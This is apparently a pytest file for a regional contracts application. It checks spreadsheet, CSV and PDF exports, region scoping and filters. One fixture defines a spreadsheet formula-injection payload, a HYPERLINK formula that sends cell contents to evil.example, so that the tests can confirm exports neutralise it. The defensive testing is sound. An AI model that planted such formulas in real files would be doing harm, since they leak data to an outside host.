"""Exports of the lists (opened with openpyxl and csv as a spreadsheet would read them) and the
printable PDF of overdue obligations per region (read back with pdftotext)."""

from __future__ import annotations

import csv
import io
import subprocess
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tests import factories
from tests.conftest import login

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'


def _sheet(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    workbook = load_workbook(io.BytesIO(response.data))
    return workbook.active


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.data.startswith("\ufeff".encode())  # Excel then reads the UTF-8 right
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


@pytest.fixture
def contracts(set_today):
    set_today("2014-06-12")
    evil = factories.party(name=EVIL)
    mine = factories.contract(
        "KZ-35", number="241", contractor_id=evil.id, total_amount=Decimal("77000000.00")
    )
    factories.milestone(mine, title="+7 701 000 00 00 позвонить", due_on=date(2014, 5, 1))
    other = factories.contract("KZ-35", number="242", status="terminated")
    foreign = factories.contract("KZ-63", number="ВК-1")
    return mine, other, foreign


def test_a_contracts_export_has_the_lists_rows_in_scope_as_real_numbers_and_dates(
    client, make_user, contracts
):
    login(client, make_user("officer", "KZ-35"))
    sheet = _sheet(client.get("/export/contracts.xlsx?sort=number"))
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    assert header[0] == "Номер" and "Сумма" in header
    numbers = [r[0] for r in rows[1:]]
    assert numbers == ["241", "242"]  # the other region's contract is not exported
    first = rows[1]
    amount = sheet.cell(row=2, column=header.index("Сумма") + 1)
    assert amount.data_type == "n" and amount.value == 77000000
    signed = sheet.cell(row=2, column=header.index("Дата заключения") + 1)
    assert signed.is_date and signed.value.date() == date(2013, 11, 21)
    assert first[header.index("Подрядчик")] == "'" + EVIL


def test_formula_injection_is_neutralised_in_xlsx_and_csv(client, make_user, contracts):
    login(client, make_user("officer", "KZ-35"))
    sheet = _sheet(client.get("/export/parties.xlsx"))
    cells = [c for row in sheet.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
    assert cells and all(c.data_type == "s" and str(c.value).startswith("'=") for c in cells)
    rows = _csv_rows(client.get("/export/parties.csv"))
    names = [r[0] for r in rows[1:]]
    assert "'" + EVIL in names and EVIL not in names
    deadlines = _csv_rows(client.get("/export/deadlines.csv?state=overdue"))
    titles = [r[2] for r in deadlines[1:]]
    assert titles == ["'+7 701 000 00 00 позвонить"]


def test_an_export_follows_the_lists_filters(client, make_user, contracts):
    login(client, make_user("manager", None))
    rows = _csv_rows(client.get("/export/contracts.csv?status=terminated"))
    assert [r[0] for r in rows[1:]] == ["242"]
    rows = _csv_rows(client.get("/export/contracts.csv?q=ВК"))
    assert [r[0] for r in rows[1:]] == ["ВК-1"]
    # Amounts with a dot and dates as YYYY-MM-DD: what other programs expect of CSV.
    rows = _csv_rows(client.get("/export/contracts.csv?q=241"))
    assert "77000000.00" in rows[1] and "2013-11-21" in rows[1]


def test_the_deadlines_export_carries_timing_and_penalty(client, make_user, contracts):
    login(client, make_user("manager", None))
    sheet = _sheet(client.get("/export/deadlines.xlsx?state=overdue"))
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    [row] = rows[1:]
    assert row[header.index("Дней просрочки")] == 39
    assert row[header.index("Начислена неустойка")] == 3003000


def test_every_list_page_offers_its_export_with_the_current_filters(client, make_user):
    login(client, make_user("manager", None))
    for name in ("projects", "sites", "contracts", "parties", "institutions"):
        html = client.get(f"/{name}?q=abc").get_data(as_text=True)
        assert f"/export/{name}.xlsx?q=abc" in html, name
        assert f"/export/{name}.csv?q=abc" in html, name
    page = client.get("/deadlines?region=KZ-35&within_days=60").get_data(as_text=True)
    assert "/export/deadlines.xlsx?state=overdue&amp;region=KZ-35" in page
    assert "/export/deadlines.csv?state=upcoming&amp;within_days=60&amp;region=KZ-35" in page


def test_an_unknown_list_or_format_is_not_found(client, make_user):
    login(client, make_user("manager", None))
    assert client.get("/export/users.xlsx").status_code == 404
    assert client.get("/export/contracts.exe").status_code == 404


def test_the_overdue_report_is_a_pdf_per_region(client, make_user, contracts, set_today):
    other = factories.contract("KZ-63", number="ВК-9")
    factories.milestone(other, title="Поставка оборудования", due_on=date(2014, 6, 2))
    login(client, make_user("manager", None))
    response = client.get("/reports/overdue.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.data.startswith(b"%PDF")
    text = subprocess.run(
        ["pdftotext", "-layout", "-", "-"], input=response.data, capture_output=True, check=True
    ).stdout.decode()
    assert "Просроченные обязательства по регионам на 12.06.2014" in text
    karaganda = text.index("Карагандинская область")
    east = text.index("Восточно-Казахстанская область")
    assert "№ 241" in text[karaganda:] and "ВК-9" in text[east:]
    assert "3 003 000,00 ₸" in text.replace("\u00a0", " ")
    # The officer of Karaganda gets only Karaganda.
    client = client.application.test_client()
    login(client, make_user("officer", "KZ-35"))
    text = subprocess.run(
        ["pdftotext", "-", "-"],
        input=client.get("/reports/overdue.pdf").data,
        capture_output=True,
        check=True,
    ).stdout.decode()
    assert "ВК-9" not in text and "№ 241" in text
